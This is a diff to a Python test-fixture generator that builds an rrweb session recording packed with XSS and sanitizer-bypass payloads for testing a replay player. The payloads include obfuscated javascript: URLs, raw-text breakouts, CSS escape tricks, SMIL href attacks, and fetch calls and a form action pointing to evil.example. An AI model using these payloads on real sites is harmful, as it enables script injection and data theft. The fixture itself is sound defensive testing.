@@ -1444,75 +1444,173 @@ def generate_session(n_events: int, duration_ms: int = 4 * 3600 * 1000, seed: in
 HOSTILE_MARK = "pwned"           # in every executable payload: must never survive sanitizing
 HOSTILE_HOST = "evil.example"    # every remote resource points here: must never be fetched
 HOSTILE_INERT = "inert-text"     # in text that should survive as visible, escaped text
+HOSTILE_FLAG = "__hostileRan"    # the global every payload sets if it ever runs (tests read it)
 
 
-def hostile_session(start_ms: int = 1_700_000_000_000) -> list[Raw]:
+def hostile_session(start_ms: int = 1_700_000_000_000, host: str = HOSTILE_HOST) -> list[Raw]:
     """A small, valid rrweb recording stuffed with what a player must neutralise: inline
-    and remote scripts (also inside SVG), on* handlers in any case, javascript:/vbscript:/
-    data: URLs with case, whitespace and control-character tricks, srcdoc and remote
-    iframes, remote images/srcset/CSS (url(), @import, <link>, _cssText, style
-    attributes), <meta http-equiv=refresh>, <base href>, form actions and formaction,
-    <object>/<embed>, SVG <use href>/xlink:href — in the FullSnapshot and again through
-    mutations, attribute changes, a text change of a <style> and a CSSOM insertRule.
-    Every executable payload contains HOSTILE_MARK, every remote URL HOSTILE_HOST; text
-    meant to stay visible (escaped) contains HOSTILE_INERT."""
+    and remote scripts (also inside SVG, also as `svg:script`), on* handlers in any case,
+    javascript:/vbscript:/data: URLs with case, whitespace and control-character tricks,
+    srcdoc and remote iframes, data: documents, remote images/srcset/CSS (url() in its
+    escaped forms, @import, @font-face, image-set, <link> stylesheet/preload/prefetch/icon,
+    _cssText, style attributes), URL-taking SVG presentation attributes (fill, mask, filter,
+    marker-*, cursor, ...), SMIL <set>/<animate> aimed at href, handlers and url()s, markup
+    hidden in the text of raw-text and foreign-content elements (an SVG/MathML <style> is
+    parsed as markup by a browser), nodes recorded before <head>, an rr_dataURL that breaks
+    out of CSS, <meta http-equiv=refresh>, <base href>, form actions and formaction,
+    <object>/<embed>, ping — in the FullSnapshot and again through mutations, later
+    attribute changes, text changes of <style>s and a CSSOM insertRule.
+
+    Every executable payload contains HOSTILE_MARK and sets `window[HOSTILE_FLAG]`, every
+    remote URL points at `host` (default HOSTILE_HOST; a test passes a loopback canary).
+    Markup meant to stay visible or inert *text* contains HOSTILE_INERT (and no host)."""
     ids = _Ids()
-    m, h = HOSTILE_MARK, HOSTILE_HOST
+    m, h = HOSTILE_MARK, host
+
+    def run(tag: str) -> str:   # what a handler would do: flag it, and call the canary
+        return f"window.{HOSTILE_FLAG}='{m}-{tag}';fetch('//{h}/{m}-{tag}')"
+
+    def markup(tag: str) -> str:   # markup that must stay text: runs only if re-parsed
+        return (f"<img src=x onerror=\"window.{HOSTILE_FLAG}='{HOSTILE_INERT}-{tag}'\">"
+                f"<svg onload=\"window.{HOSTILE_FLAG}='{HOSTILE_INERT}-{tag}-svg'\"></svg>")
+
+    svg = lambda tag, attrs=None, kids=None: E(tag, attrs or {}, kids or [], svg=True)  # noqa: E731
     style = E("style", {}, [T(f"@import url('https://{h}/import.css');\n"
                               f"body {{ background: url(https://{h}/bg.png) }}\n"
                               ".card { color: #333 }", style=True)])
+    css_classics = E("style", {}, [T(
+        f"@import 'http://{h}/i1.css'; @import url(http://{h}/i2.css) screen;\n"
+        f"@\\69mport 'http://{h}/i3.css';\n"
+        f"@font-face {{ font-family: x; src: url(http://{h}/f.woff2) format('woff2'),"
+        f" local(x), url('//{h}/f2.woff') }}\n"
+        f".u1 {{ background: \\75 rl(http://{h}/u1.png) }}\n"
+        f".u2 {{ background: u\\72l(http://{h}/u2.png) }}\n"
+        f".u3 {{ background: url(http\\3a //{h}/u3.png) }}\n"
+        f".u4 {{ background: URL( \"http://{h}/u4.png\" ) }}\n"
+        f".u5 {{ background-image: image-set('http://{h}/u5.png' 1x, url(http://{h}/u5b.png) 2x) }}\n"
+        f".u6 {{ background-image: -webkit-image-set(\"http://{h}/u6.png\" 1x) }}\n"
+        f".u7 {{ cursor: url(http://{h}/u7.cur), auto; list-style: url(http://{h}/u7.png) }}\n"
+        f".u8 {{ mask-image: url(http://{h}/u8.svg); border-image: url(http://{h}/u8b.png) 30 }}\n"
+        f".u9::after {{ content: '</style>{markup('css-string')}' }}\n"
+        f"@namespace x url(http://{h}/ns);", style=True)])
     head = E("head", {}, [
         E("meta", {"charset": "utf-8"}),
-        E("meta", {"http-equiv": "Refresh", "content": f"0; url=https://{h}/refresh"}),
-        E("base", {"href": f"https://{h}/"}),
+        E("meta", {"http-equiv": "Refresh", "content": f"0; url=http://{h}/refresh"}),
+        E("base", {"href": f"http://{h}/"}),
         E("title", {}, [T("Hostile page")]),
-        E("script", {}, [T(f"alert('{m}-inline-script')")]),
+        E("script", {}, [T(run("inline-script"))]),
         E("script", {"src": f"https://{h}/{m}.js", "type": "module"}),
-        E("link", {"rel": "stylesheet", "href": f"https://{h}/{m}.css"}),
+        E("svg:script", {}, [T(run("head-svg-prefixed-script"))], svg=True),
+        E("link", {"rel": "stylesheet", "href": f"http://{h}/{m}.css"}),
         E("link", {"rel": "stylesheet", "href": f"https://{h}/inlined.css",
-                   "_cssText": f"body {{ background-image: url(\"https://{h}/csstext.png\") }}"}),
-        E("link", {"rel": "preload", "as": "script", "href": f"https://{h}/preload.js"}),
-        style,
+                   "_cssText": f"body {{ background-image: url(\"http://{h}/csstext.png\") }}"}),
+        E("link", {"rel": "preload", "as": "script", "href": f"http://{h}/preload.js"}),
+        E("link", {"rel": "preload", "as": "image", "imagesrcset": f"http://{h}/pre-1x.png 1x"}),
+        E("link", {"rel": "prefetch", "href": f"http://{h}/prefetch"}),
+        E("link", {"rel": "modulepreload", "href": f"http://{h}/modulepreload.js"}),
+        E("link", {"rel": "icon", "href": f"http://{h}/favicon.ico"}),
+        E("link", {"rel": "dns-prefetch preconnect", "href": f"http://{h}/"}),
+        E("link", {"rel": "manifest", "href": f"http://{h}/manifest.json"}),
+        style, css_classics,
     ])
     victim_div = E("div", {"class": "card", "id": "victim"}, [T("Plain card")])
     victim_a = E("a", {"href": "/safe"}, [T("Safe link")])
     victim_style_text = style.kids[0]
     sheet_style = E("style", {}, [T(".x { color: red }", style=True)])
     user_input = E("input", {"type": "text", "name": "q", "value": "hello"})
-    body = E("body", {"onload": f"alert('{m}-onload')", "class": "page"}, [
-        E("h1", {"onclick": f"alert('{m}-onclick-h1')"}, [T("A hostile recording")]),
-        E("a", {"href": f"javascript:alert('{m}-href')"}, [T("js link")]),
-        E("a", {"href": f"  JaVaScRiPt:alert('{m}-case')"}, [T("mixed-case js link")]),
-        E("a", {"href": f"java\tscript:alert('{m}-tab')"}, [T("tab js link")]),
-        E("a", {"href": f"\x01javascript:alert('{m}-ctrl')"}, [T("control-char js link")]),
+    victim_rect = svg("rect", {"width": "10", "height": "10", "fill": "red"})
+    victim_set = svg("set", {"attributeName": "fill", "to": "blue", "begin": "0s"})
+    victim_svg_style_text = T("circle { fill: green }")
+    victim_canvas = E("canvas", {"width": "20", "height": "20"})
+    url_attrs = {k: f"url(http://{h}/{k}.svg#a)" for k in
+                 ("fill", "stroke", "mask", "clip-path", "filter", "marker-start", "marker-mid",
+                  "marker-end", "cursor")}
+    body = E("body", {"onload": run("onload"), "class": "page", "background": f"http://{h}/body-bg.png"}, [
+        E("h1", {"onclick": run("onclick-h1")}, [T("A hostile recording")]),
+        E("a", {"href": f"javascript:{run('href')}"}, [T("js link")]),
+        E("a", {"href": f"  JaVaScRiPt:{run('case')}"}, [T("mixed-case js link")]),
+        E("a", {"href": f"java\tscript:{run('tab')}"}, [T("tab js link")]),
+        E("a", {"href": f"\x01javascript:{run('ctrl')}"}, [T("control-char js link")]),
+        E("a", {"href": f"&#106;avascript:{run('entity')}"}, [T("entity js link")]),
         E("a", {"href": f"vbscript:msgbox('{m}-vb')"}, [T("vbscript link")]),
-        E("a", {"href": f"data:text/html,<script>alert('{m}-data')</script>"}, [T("data link")]),
-        E("a", {"href": f"https://{h}/away", "target": "_blank", "ping": f"https://{h}/ping"}, [T("remote link")]),
-        E("img", {"src": f"https://{h}/track.gif", "onerror": f"alert('{m}-onerror')",
-                  "ONCLICK": f"alert('{m}-upper')", "srcset": f"https://{h}/a.png 1x, https://{h}/b.png 2x",
+        E("a", {"href": f"data:text/html,<script>{run('data')}</script>"}, [T("data link")]),
+        E("a", {"href": f"https://{h}/away", "target": "_blank", "ping": f"http://{h}/ping"}, [T("remote link")]),
+        E("img", {"src": f"http://{h}/track.gif", "onerror": run("onerror"),
+                  "ONCLICK": run("upper"), "srcset": f"http://{h}/a.png 1x, https://{h}/b.png 2x",
                   "alt": "tracker"}),
-        E("iframe", {"srcdoc": f"<script>alert('{m}-srcdoc')</script>", "width": "300", "height": "80"}),
-        E("iframe", {"src": f"https://{h}/frame", "width": "300", "height": "80"}),
-        E("form", {"action": f"https://{h}/steal", "method": "post"}, [
+        E("picture", {}, [E("source", {"srcset": f"http://{h}/source.webp", "type": "image/webp"}),
+                          E("img", {"src": f"http://{h}/picture.png", "loading": "eager"})]),
+        E("input", {"type": "image", "src": f"http://{h}/input.png", "autofocus": "", "onfocus": run("autofocus")}),
+        E("details", {"open": "", "ontoggle": run("toggle")}, [T("details")]),
+        E("iframe", {"srcdoc": f"<script>{run('srcdoc')}</script>", "width": "300", "height": "80"}),
+        E("iframe", {"src": f"http://{h}/frame", "width": "300", "height": "80"}),
+        E("iframe", {"src": f"data:text/html,<script>{run('data-iframe')}</script>"}),
+        E("iframe", {}, [T(f"</iframe>{markup('iframe-text')}")]),
+        E("form", {"action": f"http://{h}/steal", "method": "post"}, [
             user_input,
-            E("button", {"formaction": f"javascript:alert('{m}-formaction')"}, [T("Send")]),
+            E("button", {"formaction": f"javascript:{run('formaction')}"}, [T("Send")]),
         ]),
-        E("object", {"data": f"https://{h}/{m}.swf", "type": "application/x-shockwave-flash"}),
-        E("embed", {"src": f"https://{h}/{m}-embed.swf"}),
-        E("svg", {"width": "40", "height": "40", "onload": f"alert('{m}-svg-onload')"}, [
-            E("use", {"href": f"https://{h}/sprite.svg#icon", "xlink:href": f"https://{h}/sprite.svg#icon2"}, svg=True),
-            E("script", {}, [T(f"alert('{m}-svg-script')")], svg=True),
-            E("a", {"xlink:href": f"javascript:alert('{m}-svg-link')"}, [E("text", {}, [T("svg link")], svg=True)], svg=True),
-            E("image", {"href": f"https://{h}/svg-image.png"}, svg=True),
-        ], svg=True),
-        E("div", {"style": f"background: url(https://{h}/style-attr.png); color: blue",
-                  "onMouseOver": f"alert('{m}-mouseover')"}, [T("styled div")]),
-        E("video", {"src": f"https://{h}/movie.mp4", "poster": f"https://{h}/poster.jpg"}),
+        E("object", {"data": f"http://{h}/{m}.swf", "type": "application/x-shockwave-flash"}),
+        E("object", {"data": f"data:text/html,<script>{run('data-object')}</script>"}),
+        E("embed", {"src": f"http://{h}/{m}-embed.swf"}),
+        E("embed", {"src": f"data:image/svg+xml,<svg onload=\"{run('data-embed')}\"/>"}),
+        E("svg", {"width": "40", "height": "40", "onload": run("svg-onload")}, [
+            svg("use", {"href": f"http://{h}/sprite.svg#icon", "xlink:href": f"http://{h}/sprite.svg#icon2"}),
+            svg("script", {}, [T(run("svg-script"))]),
+            svg("svg:script", {}, [T(run("svg-prefixed-script"))]),
+            svg("svg:style", {}, [T(f"circle {{ fill: red }} {markup('svg-prefixed-style')}")]),
+            svg("style", {}, [T(f"</style>{markup('svg-style')}")]),
+            svg("style", {}, [victim_svg_style_text]),
+            svg("title", {}, [E("style", {}, [T(f"</style>{markup('svg-title-style')}")])]),
+            svg("a", {"xlink:href": f"javascript:{run('svg-link')}"}, [svg("text", {}, [T("svg link")])]),
+            svg("image", {"href": f"http://{h}/svg-image.png"}),
+            svg("feImage", {"href": f"http://{h}/feimage.png"}),
+            svg("rect", dict(url_attrs, width="10", height="10")),
+            svg("rect", {"width": "5", "height": "5", "fill": f"\\75 rl(http://{h}/fill-escaped.svg#a)",
+                         "stroke": f"URL( 'http://{h}/stroke-quoted.svg#a' )"}),
+            svg("a", {"href": "#x"}, [svg("set", {"attributeName": "href", "to": f"javascript:{run('smil-set')}"}),
+                                      svg("text", {}, [T("smil")])]),
+            svg("a", {}, [svg("animate", {"attributeName": "xlink:href", "values": f"http://{h}/smil-values"}),
+                          svg("set", {"attributeName": "onclick", "to": run("smil-handler")})]),
+            svg("rect", {"width": "5", "height": "5"}, [
+                svg("animate", {"attributeName": "fill", "values": f"url(http://{h}/smil-fill.svg#a);red",
+                                "dur": "1s"}),
+                svg("set", {"attributeName": "filter", "to": f"url(http://{h}/smil-filter.svg#f)"}),
+                svg("animate", {"attributeType": "CSS", "attributeName": "background-image",
+                                "to": f"url(http://{h}/smil-css.png)"})]),
+            victim_rect,
+            svg("g", {}, [victim_set]),
+            svg("foreignObject", {"width": "20", "height": "20"}, [
+                E("div", {"style": f"background: url(http://{h}/fo.png)"}, [T("in foreignObject")])]),
+        ]),
+        E("math", {}, [
+            E("style", {}, [T(f"</style>{markup('math-style')}")]),
+            E("mtext", {}, [E("table", {}, [E("mglyph", {}, [
+                E("style", {}, [T(f"</style>{markup('mglyph-style')}")])])])]),
+            E("mi", {"href": f"javascript:{run('math-href')}"}, [T("x")]),
+        ]),
+        E("div", {"style": f"background: url(http://{h}/style-attr.png); color: blue",
+                  "onMouseOver": run("mouseover")}, [T("styled div")]),
+        E("canvas", {"rr_dataURL": f"data:image/png;base64,AAAA\"); background-image: url(http://{h}/dataurl.png); x: (\""}),
+        E("img", {"rr_dataURL": f"data:image/png,\" onerror=\"{run('rr-dataurl-img')}"}),
+        E("video", {"src": f"http://{h}/movie.mp4", "poster": f"http://{h}/poster.jpg", "autoplay": ""},
+          [E("source", {"src": f"http://{h}/source.mp4"}), E("track", {"src": f"http://{h}/track.vtt", "default": ""})]),
+        E("audio", {"src": f"http://{h}/audio.mp3", "autoplay": ""}),
+        E("table", {"background": f"http://{h}/table-bg.png"}, [E("tbody", {}, [E("tr", {}, [E("td", {}, [T("cell")])])])]),
         E("p", {}, [T(f"<script>alert('{HOSTILE_INERT}')</script> is shown as text, not run")]),
-        E("noscript", {}, [T("noscript content")]),
-        victim_div, victim_a, sheet_style,
+        E("title", {}, [T(f"</title>{markup('title-text')}")]),
+        E("textarea", {}, [T(f"</textarea>{markup('textarea-text')}")]),
+        E("noscript", {}, [T(f"</noscript>{markup('noscript-text')}")]),
+        E("noembed", {}, [T(f"</noembed>{markup('noembed-text')}")]),
+        E("noframes", {}, [T(f"</noframes>{markup('noframes-text')}")]),
+        E("xmp", {}, [T(f"</xmp>{markup('xmp-text')}")]),
+        E("template", {}, [E("img", {"src": f"http://{h}/template.png", "onerror": run("template")})]),
+        E("marquee", {"onstart": run("marquee")}, [T("marquee")]),
+        victim_div, victim_a, sheet_style, victim_canvas,
     ])
-    html = E("html", {"lang": "en"}, [head, body])
+    # recorded before <head>: a parser would close <head> here and ignore a CSP meta after it
+    before_head = E("div", {"id": "before-head"}, [T("recorded before the head")])
+    html = E("html", {"lang": "en"}, [before_head, head, body])
     doc = E("#doc")
     doc.id = ids.next
     ids.next += 1
@@ -1529,23 +1627,34 @@ def hostile_session(start_ms: int = 1_700_000_000_000) -> list[Raw]:
     def ev(data: Raw, dt: int) -> None:
         events.append({"type": _INC, "data": data, "timestamp": t + dt})
 
-    added_script = E("script", {}, [T(f"alert('{m}-added-script')")])
-    added_iframe = E("iframe", {"srcdoc": f"<img src=x onerror=alert('{m}-added-srcdoc')>"})
-    added_img = E("img", {"src": f"https://{h}/added.png", "onload": f"alert('{m}-added-onload')"})
-    added_meta = E("meta", {"http-equiv": "refresh", "content": f"1;url=javascript:alert('{m}-meta-js')"})
+    added_script = E("script", {}, [T(run("added-script"))])
+    added_iframe = E("iframe", {"srcdoc": f"<img src=x onerror=\"{run('added-srcdoc')}\">"})
+    added_img = E("img", {"src": f"http://{h}/added.png", "onload": run("added-onload")})
+    added_meta = E("meta", {"http-equiv": "refresh", "content": f"1;url=javascript:{run('meta-js')}"})
+    added_svg = svg("svg", {"width": "10", "height": "10"}, [
+        svg("svg:script", {}, [T(run("added-svg-prefixed-script"))]),
+        svg("style", {}, [T(f"</style>{markup('added-svg-style')}")]),
+        svg("circle", {"r": "4", "fill": f"url(http://{h}/added-fill.svg#a)"})])
     ev(_mutation(adds=ids.adds(body, added_script, None))[1], 1000)
     ev(_mutation(adds=ids.adds(body, added_iframe, None) + ids.adds(body, added_img, None))[1], 1500)
-    ev(_mutation(adds=ids.adds(head, added_meta, None))[1], 1800)
+    ev(_mutation(adds=ids.adds(head, added_meta, None) + ids.adds(body, added_svg, None))[1], 1800)
     ev(_mutation(attributes=[
-        {"id": victim_div.id, "attributes": {"onclick": f"alert('{m}-attr-onclick')",
-                                             "style": f"background-image: url('https://{h}/attr-style.png')"}},
-        {"id": victim_a.id, "attributes": {"href": f"javascript:alert('{m}-attr-href')"}},
+        {"id": victim_div.id, "attributes": {"onclick": run("attr-onclick"),
+                                             "style": f"background-image: url('http://{h}/attr-style.png')"}},
+        {"id": victim_a.id, "attributes": {"href": f"javascript:{run('attr-href')}", "ping": f"http://{h}/attr-ping"}},
+        {"id": victim_rect.id, "attributes": {"fill": f"url(http://{h}/attr-fill.svg#a)",
+                                              "mask": f"url(http://{h}/attr-mask.svg#m)"}},
+        {"id": victim_canvas.id, "attributes": {"rr_dataURL": f"data:image/png,\"); background: url(http://{h}/attr-dataurl.png"}},
     ])[1], 2000)
-    ev(_mutation(attributes=[{"id": victim_div.id, "attributes": {"style": {"background": f"url(https://{h}/style-diff.png)"}}}])[1], 2200)
+    ev(_mutation(attributes=[{"id": victim_div.id, "attributes": {"style": {"background": f"url(http://{h}/style-diff.png)"}}}])[1], 2200)
+    # a harmless animation turned against href after the fact
+    ev(_mutation(attributes=[{"id": victim_set.id, "attributes": {"attributeName": "href",
+                                                                 "to": f"http://{h}/smil-later"}}])[1], 2300)
     ev(_mutation(texts=[{"id": victim_style_text.id,
-                         "value": f"@import 'https://{h}/mutated.css'; .card {{ background: url(//{h}/mutated.png) }}"}])[1], 2500)
+                         "value": f"@import 'http://{h}/mutated.css'; .card {{ background: url(//{h}/mutated.png) }}"},
+                        {"id": victim_svg_style_text.id, "value": f"</style>{markup('svg-style-text-change')}"}])[1], 2500)
     ev({"source": _SHEET, "id": sheet_style.id, "adds": [
-        {"rule": f".y {{ background: url(https://{h}/rule.png) }}", "index": 1}]}, 3000)
+        {"rule": f".y {{ background: url(http://{h}/rule.png) }}", "index": 1}]}, 3000)
     ev({"source": _INPUT, "text": f"\"><script>alert('{HOSTILE_INERT}')</script>", "isChecked": False,
         "userTriggered": True, "id": user_input.id}, 3500)
     ev({"source": _MI, "type": _CLICK, "id": victim_a.id, "x": 10, "y": 10, "pointerType": 0}, 4000)
